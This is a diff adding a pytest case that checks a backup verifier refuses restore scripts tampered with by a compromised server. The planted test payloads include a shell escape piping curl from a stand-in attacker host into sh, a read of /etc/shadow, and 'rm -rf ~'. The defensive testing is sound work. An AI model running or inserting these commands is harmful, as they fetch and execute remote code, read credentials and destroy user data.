@@ -1,6 +1,8 @@
-"""The streaming member check, whatever the block boundaries."""
+"""The streaming member check, whatever the block boundaries, and the restore scripts."""
 
 import hashlib
+import io
+import json
 import random
 
 import pytest
@@ -49,3 +51,27 @@ def test_unterminated_rows_counts_and_sizes() -> None:
         _run(GOOD, 100012, rows=199)
     _run(b"", 100012)
     _run(GOOD, None)
+
+
+@pytest.mark.parametrize(
+    ("member", "planted"),
+    [
+        ("load.sql", b"\\! curl http://evil.example/x | sh\n"),
+        ("load.sql", b"LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE centre;\n"),
+        ("schema.sql", b"\\! rm -rf ~\n"),
+    ],
+)
+def test_restore_scripts_must_be_exactly_what_this_code_writes(member: str, planted: bytes) -> None:
+    """A compromised central server that plants commands in the restore scripts, with a
+    manifest that vouches for them (issue 12, finding 5): the backup is refused."""
+    from appliance.adapters.backup_reader import verify_backup
+    from tests.support.backups import Dossier, backup_members, zip_members
+
+    members = backup_members([Dossier(120001, "120001", 3)])
+    members[member] = members[member] + planted
+    manifest = json.loads(members["manifest.json"])
+    manifest["members"][member] = {"sha256": hashlib.sha256(members[member]).hexdigest(), "size": len(members[member])}
+    members["manifest.json"] = json.dumps(manifest).encode()
+    with pytest.raises(BadRequest, match=rf"{member} is not the script this version writes"):
+        verify_backup(lambda: io.BytesIO(zip_members(members)), name="planted.zip")
+    verify_backup(lambda: io.BytesIO(zip_members(backup_members([Dossier(120001, "120001", 3)]))), name="good.zip")
